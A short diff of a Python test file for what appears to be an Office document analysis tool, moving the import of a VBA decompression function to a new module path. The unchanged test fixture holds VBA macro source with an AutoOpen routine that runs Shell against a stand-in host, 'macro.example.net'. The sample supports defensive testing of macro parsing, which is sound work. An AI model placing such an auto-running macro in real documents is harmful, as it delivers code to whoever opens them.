@@ -5,7 +5,7 @@ import base64
 import pytest
 from office_files import read_ole, spot_of, texts, vba_literal, vba_project, word_97
 
-from tqimap.documents.vba import decompress
+from tqimap.documents.office.vba import decompress
 
 SOURCE = (
     b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "http://" & _\r\n "macro.example.net/a"\r\nEnd Sub\r\n'
